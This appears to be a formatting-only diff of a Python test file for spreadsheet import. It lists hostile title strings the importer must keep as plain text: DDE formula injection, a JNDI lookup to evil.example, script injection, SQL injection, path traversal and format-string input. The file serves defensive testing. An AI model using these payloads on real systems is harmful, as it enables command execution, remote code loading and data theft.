@@ -3,12 +3,24 @@
 from tests.exchange.corpus.making import OK, Case, csv_bytes, row, sheet_xml, table, workbook
 
 KEPT = (
-    "=cmd|' /C calc'!A0", "=HYPERLINK(\"https://evil.example\")", "+1+1 workshop",
-    "-2+3 workshop", "@SUM(1+1)*cmd", "<script>alert(1)</script>", "'); DROP TABLE activity;--",
-    "{{7*7}} workshop", "${jndi:ldap://evil.example}", ":red[board] workshop",
-    "![x](https://evil.example/p.png)", "../../etc/passwd", "%s%s%s%n workshop",
-    "Robert\"; SELECT 1", "l’été à Zürich", "Ωmega 😀 workshop", "\u200eLeft to right\u200f",
-)  # fmt: skip
+    "=cmd|' /C calc'!A0",
+    '=HYPERLINK("https://evil.example")',
+    "+1+1 workshop",
+    "-2+3 workshop",
+    "@SUM(1+1)*cmd",
+    "<script>alert(1)</script>",
+    "'); DROP TABLE activity;--",
+    "{{7*7}} workshop",
+    "${jndi:ldap://evil.example}",
+    ":red[board] workshop",
+    "![x](https://evil.example/p.png)",
+    "../../etc/passwd",
+    "%s%s%s%n workshop",
+    'Robert"; SELECT 1',
+    "l’été à Zürich",
+    "Ωmega 😀 workshop",
+    "\u200eLeft to right\u200f",
+)
 CLEANED = {
     "Library\u202elaw": "Librarylaw",
     "Library\ufffe law": "Library law",
@@ -19,8 +31,9 @@ CLEANED = {
 
 
 def _kept(words):
-    return Case(f"hostile: {words!r}"[:60], "log.xlsx", lambda: _book(words), (OK,),
-                ({"title": words},))  # fmt: skip
+    return Case(
+        f"hostile: {words!r}"[:60], "log.xlsx", lambda: _book(words), (OK,), ({"title": words},)
+    )
 
 
 def _book(words):
